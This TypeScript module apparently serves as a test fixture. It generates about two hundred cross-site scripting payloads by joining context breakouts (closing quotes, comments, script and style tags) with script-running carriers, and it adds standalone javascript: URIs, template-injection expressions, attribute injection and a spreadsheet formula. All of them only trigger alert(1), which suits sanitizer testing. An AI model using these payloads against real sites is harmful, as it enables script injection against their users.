/** What ends the text, attribute, comment, script or style in which a payload may find itself. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  ']]>',
  '\u2028',
  '\u0000">',
  '\uFF1C',
] as const;

/** What then runs. */
const CARRIERS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=data:text/javascript,alert(1)></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<object data="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";*{background:url(javascript:alert(1))}</style>',
] as const;

/** What needs nothing around it. */
const WHOLE = [
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '<%= alert(1) %>',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '[x](javascript:alert(1))',
  '=HYPERLINK("http://127.0.0.1/","x")',
  '\u202E<script>alert(1)</script>',
  '__proto__',
] as const;

/** Two hundred texts that run `alert` where a page takes them for markup, script, style or an address. */
export const PAYLOADS: readonly string[] = [
  ...WHOLE,
  ...BREAKOUTS.flatMap((out) => CARRIERS.map((carrier) => `${out}${carrier}`)),
].slice(0, 200);
